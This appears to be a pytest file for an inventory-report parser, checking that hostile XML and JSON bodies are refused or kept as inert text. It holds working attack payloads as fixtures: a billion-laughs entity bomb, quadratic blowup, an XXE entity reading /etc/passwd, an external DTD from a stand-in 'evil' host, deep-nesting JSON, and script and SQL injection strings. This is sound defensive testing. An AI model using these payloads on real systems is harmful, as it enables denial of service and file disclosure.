"""Bodies no agent sends: refused fast, never expanded, never fetched; or kept inert."""

import pytest

from regie.inventory.exceptions import HostileInput, MalformedReport
from regie.inventory.protocols import fusion_xml, glpi_json
from regie.inventory.safe_json import INVALID_UTF8_WARNING, parse_json
from regie.inventory.safe_xml import parse_xml
from regie.inventory.tests.fixtures import peak_allocation

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<REQUEST><CONTENT><HARDWARE><NAME>&lol9;</NAME></HARDWARE></CONTENT>
<DEVICEID>x</DEVICEID><QUERY>INVENTORY</QUERY></REQUEST>"""

QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "'
    + b"A" * 50_000
    + b'">]><REQUEST><CONTENT><HARDWARE><NAME>'
    + b"&a;" * 50_000
    + b"</NAME></HARDWARE></CONTENT><DEVICEID>x</DEVICEID><QUERY>INVENTORY</QUERY></REQUEST>"
)

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<REQUEST><CONTENT><HARDWARE><NAME>&xxe;</NAME></HARDWARE></CONTENT>
<DEVICEID>x</DEVICEID><QUERY>INVENTORY</QUERY></REQUEST>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE REQUEST SYSTEM "http://203.0.113.1/evil.dtd">
<REQUEST><CONTENT><HARDWARE><NAME>pc</NAME></HARDWARE></CONTENT>
<DEVICEID>x</DEVICEID><QUERY>INVENTORY</QUERY></REQUEST>"""

UTF16_WITH_ENTITY = EXTERNAL_ENTITY.replace(b'version="1.0"', b'version="1.0" encoding="UTF-16"')


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, QUADRATIC_BLOWUP, EXTERNAL_ENTITY, EXTERNAL_DTD],
    ids=["billion-laughs", "quadratic-blowup", "external-entity", "external-dtd"],
)
def test_hostile_xml_is_refused_fast_without_expanding_anything(body):
    with (
        peak_allocation() as peak,
        pytest.raises(HostileInput, match="DOCTYPE or entities") as refused,
    ):
        fusion_xml.parse(body)

    assert peak[0] < 1024 * 1024  # refused before anything is parsed or expanded
    assert "lollol" not in str(refused.value)
    assert "root:" not in str(refused.value)


def test_utf16_doctype_is_refused_after_parsing():
    body = UTF16_WITH_ENTITY.decode("ascii").encode("utf-16")

    with pytest.raises(HostileInput, match="DOCTYPE or entities"):
        parse_xml(body)


def test_hundred_thousand_deep_json_is_refused_fast():
    body = b'{"action": "inventory", "content": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"

    with peak_allocation() as peak, pytest.raises(HostileInput, match="nested too deeply"):
        glpi_json.parse(body)

    assert peak[0] < 16 * 1024 * 1024


def test_json_deeper_than_the_limit_is_refused():
    body = b'{"a": ' + b"[" * 40 + b"]" * 40 + b"}"

    with pytest.raises(HostileInput, match="nested deeper than 32 levels"):
        parse_json(body)


@pytest.mark.parametrize("constant", [b"NaN", b"Infinity", b"-Infinity"])
def test_json_nan_and_infinity_are_refused(constant):
    with pytest.raises(MalformedReport, match="not valid JSON"):
        parse_json(b'{"memory": ' + constant + b"}")


def test_invalid_utf8_in_json_is_replaced_and_reported():
    body = b'{"action": "inventory", "deviceid": "d", "content": {"hardware": {"name": "pc-\xff"}}}'

    report = glpi_json.parse(body)

    assert report.hardware.name == "pc-\ufffd"
    assert report.warnings == (INVALID_UTF8_WARNING,)


def test_invalid_utf8_in_xml_is_replaced_and_reported():
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?><REQUEST><CONTENT><HARDWARE><NAME>pc-\xe9'
        b"</NAME></HARDWARE></CONTENT><DEVICEID>d</DEVICEID><QUERY>INVENTORY</QUERY></REQUEST>"
    )

    report = fusion_xml.parse(body)

    assert report.hardware.name == "pc-\ufffd"
    assert report.warnings == (INVALID_UTF8_WARNING,)


INJECTIONS = ["<script>alert(1)</script>", "'; DROP TABLE assets; --", "é" * 32_768]


@pytest.mark.parametrize("value", INJECTIONS, ids=["script", "sql", "64kb"])
def test_injection_strings_survive_as_inert_text_in_json(value):
    # Length limits are the applier's job: the parser keeps the value as sent.
    import json

    body = json.dumps(
        {
            "action": "inventory",
            "deviceid": "d",
            "content": {"hardware": {"name": value}, "softwares": [{"name": value}]},
        }
    ).encode()

    report = glpi_json.parse(body)

    assert report.hardware.name == value
    assert report.software[0].name == value


@pytest.mark.parametrize("value", INJECTIONS, ids=["script", "sql", "64kb"])
def test_injection_strings_survive_as_inert_text_in_xml(value):
    from xml.sax.saxutils import escape

    body = (
        "<REQUEST><CONTENT><HARDWARE><NAME>"
        + escape(value)
        + "</NAME></HARDWARE></CONTENT><DEVICEID>d</DEVICEID><QUERY>INVENTORY</QUERY></REQUEST>"
    ).encode()

    report = fusion_xml.parse(body)

    assert report.hardware.name == value
